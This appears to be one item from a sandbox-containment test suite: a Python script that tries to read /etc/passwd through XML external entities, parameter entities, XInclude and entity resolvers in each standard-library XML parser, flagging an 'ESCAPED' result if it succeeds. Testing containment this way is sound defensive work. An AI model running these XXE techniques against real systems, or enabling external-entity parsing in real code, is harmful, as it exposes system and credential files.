# escape: 241
# technique: external entities, DTDs and parameter entities through each XML parser
# family: stdlib
# goal: read-file
# expect: contained
import io, xml.sax, xml.dom.minidom as md, xml.dom.pulldom as pd, xml.etree.ElementTree as ET, xml.sax.handler as h
from xml.parsers import expat
from xml.etree import ElementInclude
doc = '<!DOCTYPE a SYSTEM "file:///etc/passwd" [<!ENTITY e SYSTEM "/etc/passwd"><!ENTITY % p SYSTEM "/etc/passwd"> %p;]><a>&e;</a>'
seen = []
class C(xml.sax.ContentHandler):
    def characters(self, text):
        seen.append(text)
def sax():
    p = xml.sax.make_parser()
    p.setFeature(h.feature_external_ges, True)
    p.setFeature(h.feature_external_pes, True)
    p.setContentHandler(C())
    p.parse(io.StringIO(doc))
def raw():
    p = expat.ParserCreate()
    p.SetBase('/etc')
    p.SetParamEntityParsing(expat.XML_PARAM_ENTITY_PARSING_ALWAYS)
    def ref(context, base, system, public):
        child = p.ExternalEntityParserCreate(context)
        child.ParseFile(open(system, 'rb'))
        return 1
    p.ExternalEntityRefHandler = ref
    p.Parse(doc, True)
for f in (sax, raw, lambda: seen.append(ET.fromstring(doc).text), lambda: seen.append(md.parseString(doc).toxml()),
          lambda: ElementInclude.include(ET.fromstring('<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></a>')),
          lambda: xml.sax.saxutils.prepare_input_source('/etc/passwd').getByteStream().read(),
          lambda: list(pd.parse('/etc/passwd')), lambda: md.DOMBuilder if hasattr(md, 'DOMBuilder') else __import__('xml.dom.xmlbuilder').dom.xmlbuilder.DOMEntityResolver().resolveEntity(None, 'file:///etc/passwd').byteStream.read()):
    try:
        print(repr(f())[:50])
    except BaseException as error:
        print(repr(error)[:70])
if 'root' in ''.join(map(str, seen)):
    print('ESCAPED: a file through an entity')
